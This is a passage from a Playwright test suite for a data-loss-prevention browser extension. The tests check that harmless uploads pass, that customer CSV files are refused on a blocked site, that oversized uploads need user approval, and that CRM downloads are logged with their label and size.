    expect(bytes(sites, 'partner.test')).toBeGreaterThan(CSV.length * 2);
  });

  test('a harmless image and a harmless text file still upload to the blocked site', async ({ ext, sites }) => {
    const page = await open(ext, sites, 'share.test');
    sites.clearRequests();
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(50_000, 7)]);
    await page.locator('#file').setInputFiles({ name: 'photo.png', mimeType: 'image/png', buffer: png });
    await expect(page.locator('#status')).toHaveText(/^selected photo.png/);
    await page.locator('#btn-fetch').click();
    await expect(page.locator('#status')).toHaveText(/^uploaded \d+ bytes via fetch/);
    await page.locator('#file').setInputFiles({ name: 'memo.txt', mimeType: 'text/plain', buffer: Buffer.from('会議は15時からです。資料は共有フォルダにあります。') });
    await page.locator('#btn-form').click();
    await expect(page.locator('#status')).toHaveText(/^uploaded \d+ bytes via form \(multipart\/form-data\)/);
    expect(bytes(sites, 'share.test')).toBeGreaterThan(50_000);
  });

  test('choosing a customer CSV in a file input on the blocked site is refused before the page sees it', async ({ ext, sites }) => {
    const page = await open(ext, sites, 'share.test');
    await page.locator('#file').setInputFiles({ name: 'list.txt', mimeType: 'text/plain', buffer: Buffer.from(CSV) });
    await expect(page.locator('maruhi-notice').first()).toBeAttached();
    await expect(page.locator('#status')).toHaveText('no file selected');
    expect(await page.locator('#file').evaluate((i: HTMLInputElement) => i.files?.length)).toBe(0);
  });

  test('an upload past the policy\'s inspection cap is never passed unread: the user is asked first, and Esc sends nothing', async ({ ext, sites }) => {
    await ext.importPolicy({ ...demoPolicy(), detection: { maxFileBytes: 1 << 20 } });
    const page = await ext.page();
    await page.goto(sites.url('share.test', '/'));
    await expect(page.locator('#status')).toHaveText('ready');
    sites.clearRequests();
    // Harmless text, just over the cap: nothing in it would stop it, but nobody read all of it.
    const sent = page.evaluate(() =>
      fetch('/upload', { method: 'POST', body: new Blob(['会議は15時からです。\n'.repeat(60_000)], { type: 'text/plain' }) }).then(
        (r) => `sent ${r.status}`,
        (e) => `refused: ${e.message}`,
      ),
    );
    const dialog = page.locator('maruhi-dialog[data-maruhi-dialog=justify]');
    await expect(dialog).toHaveAttribute('data-rule', 'uninspectable');
    await page.keyboard.press('Escape');
    expect(await sent).toMatch(/^refused/);
    expect(bytes(sites, 'share.test')).toBe(0);
    const e = (await events(ext)).find((x) => x.channel === 'upload' && x.rule === 'uninspectable');
    expect(e).toMatchObject({ decision: 'block', detail: { uninspectable: 'too_large', cancelled: true } });
  });

  test('a download from the CRM is recorded with its label, page and size', async ({ ext, sites }) => {
    await ext.importPolicy(demoPolicy());
    const page = await ext.page();
    await page.goto(sites.url('crm.test', '/'));
    // Playwright names downloads by GUID; plain "allow" lets Chrome (and so the extension) pick the name.
    const dir = mkdtempSync(path.join(tmpdir(), 'maruhi-dl-'));
    const cdp = await page.context().newCDPSession(page);
    await cdp.send('Browser.setDownloadBehavior', { behavior: 'allow', downloadPath: dir });
    await page.locator('main a[href="/export.csv"]').click();
    // Under DevTools download control Chrome skips onDeterminingFilename: here the file lands and the event names it
    // exactly; downloads.spec.ts proves the label prefix and the "warn" hold through Chrome's own download path.
    await expect.poll(() => readdirSync(dir).filter((f) => f.endsWith('customers.csv')).length).toBe(1);
    const onDisk = readdirSync(dir).find((f) => f.endsWith('customers.csv'))!;
    await expect.poll(async () => (await events(ext)).find((e) => e.channel === 'download')?.file?.name).toBe(onDisk);
    const e = (await events(ext)).find((x) => x.channel === 'download');
    expect(e.label).toBe('confidential');
    expect(e.file.size).toBe(statSync(path.join(dir, onDisk)).size);
    expect(e.page).toMatch(/^crm\.test(:\d+)?\/export\.csv$/);
    rmSync(dir, { recursive: true, force: true });
  });
});
